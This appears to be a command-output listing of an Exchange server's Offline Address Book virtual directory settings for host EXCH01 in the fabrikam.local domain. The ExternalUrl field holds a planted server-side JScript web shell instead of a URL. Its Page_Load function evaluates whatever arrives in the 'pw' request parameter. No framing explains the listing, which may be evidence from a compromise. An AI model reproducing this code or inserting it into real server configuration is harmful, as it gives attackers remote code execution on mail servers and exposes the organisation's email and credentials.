RunspaceId                      : 4b1f0c2e-8d7a-4a3b-9e61-0f2d5c7b8a90
Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             :
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
MetabasePath                    : IIS://EXCH01.fabrikam.local/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         : {}
ExtendedProtectionSPNList       : {}
AdminDisplayVersion             : Version 15.1 (Build 2106.2)
Server                          : EXCH01
InternalUrl                     : https://mail.fabrikam.local/OAB
InternalAuthenticationMethods   : {WindowsIntegrated, OAuth}
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["pw"],"unsafe");}</script>
ExternalAuthenticationMethods   : {WindowsIntegrated, OAuth}
AdminDisplayName                :
ExchangeVersion                 : 0.10 (14.0.100.0)
DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EXCH01,CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Fabrikam,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=fabrikam,DC=local
Identity                        : EXCH01\OAB (Default Web Site)
Guid                            : 7f3e2a10-5b4c-4d8e-a1f2-9c0b3d6e5a47
ObjectCategory                  : fabrikam.local/Configuration/Schema/ms-Exch-OAB-Virtual-Directory
ObjectClass                     : {top, msExchVirtualDirectory, msExchOABVirtualDirectory}
WhenChanged                     : 3/4/2021 2:41:08 AM
WhenCreated                     : 11/2/2020 4:17:55 PM
OriginatingServer               : DC01.fabrikam.local
IsValid                         : True
ObjectState                     : Changed
